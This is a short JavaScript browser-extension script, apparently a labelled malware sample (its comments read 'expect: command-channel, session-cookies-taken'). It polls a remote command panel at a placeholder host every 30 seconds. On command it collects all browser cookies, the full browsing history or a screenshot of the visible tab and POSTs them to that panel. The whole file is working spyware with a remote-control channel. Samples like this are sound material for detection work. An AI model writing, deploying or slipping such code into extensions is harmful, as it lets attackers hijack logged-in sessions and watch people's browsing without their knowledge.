const PANEL = 'https://panel.drive-sync.example/api/machine';
async function poll() {
  const { id } = await chrome.storage.local.get('id');
  const orders = await (await fetch(`${PANEL}/${id}/commands`)).json();
  for (const order of orders) {
    switch (order.name) {
      case 'get_cookies':
        // expect: command-channel, session-cookies-taken
        await report(order, await chrome.cookies.getAll({}));
        break;
      case 'get_history':
        await report(order, await chrome.history.search({ text: '', startTime: 0 }));
        break;
      case 'screen':
        await report(order, await chrome.tabs.captureVisibleTab()); // expect: screen-watched
        break;
    }
  }
}
function report(order, data) {
  return fetch(`${PANEL}/report`, { method: 'POST', body: JSON.stringify({ order: order.id, data }) });
}
setInterval(poll, 30000);
